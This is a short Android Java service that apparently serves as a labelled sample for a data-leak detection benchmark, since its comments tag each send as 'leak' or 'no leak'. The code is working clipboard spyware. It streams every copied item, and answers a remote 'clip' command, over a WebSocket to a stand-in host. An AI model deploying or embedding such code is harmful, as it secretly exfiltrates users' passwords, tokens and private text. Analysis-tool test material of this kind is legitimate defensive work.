package stealers;

import android.app.Service;
import android.content.*;
import android.os.IBinder;

import okhttp3.*;

/** What is copied, over a socket that stays open. */
public class ClipSocket extends Service implements ClipboardManager.OnPrimaryClipChangedListener {
    private ClipboardManager board;
    private WebSocket socket;

    public IBinder onBind(Intent i) {
        return null;
    }

    @Override
    public void onCreate() {
        board = (ClipboardManager) getSystemService(CLIPBOARD_SERVICE);
        board.addPrimaryClipChangedListener(this);
        Request r = new Request.Builder().url("wss://c.example.io/ws").build();
        socket =
                new OkHttpClient()
                        .newWebSocket(
                                r,
                                new WebSocketListener() {
                                    @Override
                                    public void onOpen(WebSocket w, Response a) {
                                        w.send("hello"); // no leak
                                    }

                                    @Override
                                    public void onMessage(WebSocket w, String order) {
                                        if ("clip".equals(order)) w.send("{\"clip\":\"" + now() + "\"}"); // leak
                                        else if ("echo".equals(order)) w.send(order); // no leak
                                    }
                                });
    }

    CharSequence now() {
        ClipData d = board.getPrimaryClip();
        return d == null || d.getItemCount() == 0 ? "" : d.getItemAt(0).coerceToText(this);
    }

    public void onPrimaryClipChanged() {
        if (board.hasPrimaryClip()) socket.send(board.getPrimaryClip().getItemAt(0).getText().toString()); // leak
    }
}
